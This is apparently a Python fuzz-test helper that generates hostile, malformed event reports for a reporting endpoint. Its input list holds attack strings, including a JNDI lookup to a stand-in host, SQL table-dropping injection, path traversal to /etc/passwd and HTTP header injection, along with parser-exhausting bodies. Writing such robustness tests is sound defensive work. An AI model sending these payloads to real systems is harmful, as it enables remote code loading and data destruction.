"""What no service would report: events and bodies made up by somebody who means harm, the same for the same seed."""

import json
from random import Random
from typing import Any, Final

from tests.support.reporting import AWS, CLOUDEVENT, CLOUDEVENTS, JSON, NDJSON, REPORTS, closing, post

NASTY: Final = (
    "",
    "\0",
    "\n",
    '"',
    "\\",
    '"} 1\nforged_total 7\n',
    "\r\nSet-Cookie: a=b\r\n",
    "\x1b[2J\x1b[31m",
    "\x7f\x80\x9b",
    "\u202egnp.exe",
    "\u2066\u2069\u200f\u061c",
    "\u2028\u2029\u0085",
    "\ufeff",
    "\ufffe\uffff",
    "\ud800",
    "\udfff\ud800",
    "\U0001f4a9" * 5,
    "\U0010ffff",
    "a\u0300" * 50,
    "${jndi:ldap://evil.test/a}",
    "'; DROP TABLE counts; --",
    "../../../etc/passwd",
    "{{7*7}}",
    "%s%n%x",
    "x" * 5_000,
    "NaN",
    "+Inf",
    "le",
    "__name__",
)
NUMBERS: Final[tuple[Any, ...]] = (
    -1,
    0,
    -0.0,
    1e-320,
    1e308,
    -1e308,
    2**31,
    2**53 + 1,
    2**63 - 1,
    2**63,
    2**64,
    10**400,
    0.1,
    True,
    None,
)
FIELDS: Final = (
    *("event", "code", "reason", "initiator", "target", "id", "source", "time", "duration", "message_size"),
    *("direction", "largest_message", "client", "user_agent"),
)
KINDS: Final = (JSON, NDJSON, CLOUDEVENT, CLOUDEVENTS)
RAW: Final = (
    b"\x00",
    b"\xff\xfe",
    b"[" * 20_000,
    b'{"a":' * 20_000,
    b'{"code": 1e400}',
    b'{"code": ' + b"1" * 5_000 + b"}",
    b'{"code": 1000, "code": 1001}',
    b'{"code": 1000, "reason": "\xed\xa0\x80"}',
    b'"\\ud800"',
    b"[[[]]]",
    b"{}" * 100,
)


def text(random: Random) -> str:
    """A nasty text, one of random characters from all of Unicode, or both."""
    if random.random() < 0.5:
        return random.choice(NASTY)
    return "".join(chr(random.randrange(random.choice((128, 0x3000, 0x110000)))) for _ in range(random.randint(0, 40)))


def value(random: Random) -> Any:
    """Anything that JSON can hold."""
    match random.randrange(6):
        case 0:
            return random.choice(NUMBERS)
        case 1:
            return {text(random): random.choice(NUMBERS)}
        case 2:
            return [text(random)] * random.randint(0, 5)
        case _:
            return text(random)


def event(random: Random) -> Any:
    """An event with a random code, target and id, of which now and then a field or all is something else."""
    if random.random() < 0.05:
        return value(random)
    made = closing(
        random.randrange(5000),
        target=random.choice(("chat", "rooms", text(random))),
        id="".join(chr(random.randint(32, 126)) for _ in range(random.randint(1, 30))),
        reason=text(random),
        client=text(random),
        user_agent=text(random),
        source=text(random)[:256],
        initiator=random.choice(("client", "server", "unknown", "unknown", text(random))),
        duration=random.choice((0, 1.5, 1e300, 10**9)),
    )
    if random.random() < 0.1:
        made = {"event": "open", "id": made["id"], "target": made["target"]}
    for _ in range(random.choice((0, 0, 0, 1, 2))):
        made[random.choice((*FIELDS, text(random)))] = value(random)
    return made


def cloudevent(random: Random) -> Any:
    envelope = {"specversion": "1.0", "id": text(random), "source": text(random), "type": "x", "data": event(random)}
    if random.random() < 0.2:
        envelope[random.choice((*envelope, text(random)))] = value(random)
    return envelope


def request(random: Random) -> bytes:
    """One request with up to 30 of them, or with a body that is none."""
    path = random.choice((REPORTS, REPORTS, REPORTS, AWS, f"{REPORTS}?target=%00{random.randrange(10**6)}"))
    kind = random.choice(KINDS)
    if random.random() < 0.1:
        return post(random.choice(RAW), path=path, kind=kind)
    many = random.randint(1, 30)
    match kind:
        case "application/x-ndjson":
            body = b"\n".join(json.dumps(event(random)).encode() for _ in range(many))
        case "application/cloudevents+json":
            body = json.dumps(cloudevent(random)).encode()
        case "application/cloudevents-batch+json":
            body = json.dumps([cloudevent(random) for _ in range(many)]).encode()
        case _:
            body = json.dumps([event(random) for _ in range(many)]).encode()
    if random.random() < 0.1:
        at = random.randrange(len(body))
        body = body[:at] + random.randbytes(random.randint(1, 4)) + body[at + random.randint(0, 4) :]
    return post(body, path=path, kind=kind)
